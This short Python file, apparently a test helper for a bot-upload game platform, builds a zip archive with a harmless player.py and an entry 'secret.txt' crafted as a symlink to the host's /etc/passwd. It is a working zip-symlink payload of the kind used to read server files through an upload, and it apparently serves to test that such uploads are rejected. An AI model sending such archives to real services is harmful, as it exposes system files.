"""Packs a link to a file of the host in place of a file."""

from __future__ import annotations

import io
import stat
import zipfile


def bundle() -> bytes:
    """The upload."""
    packed = io.BytesIO()
    link = zipfile.ZipInfo("secret.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(
            "player.py", "from matchbox.games.bomb import SimplePlayer\nBOT = SimplePlayer\n"
        )
        archive.writestr(link, "/etc/passwd")
    return packed.getvalue()
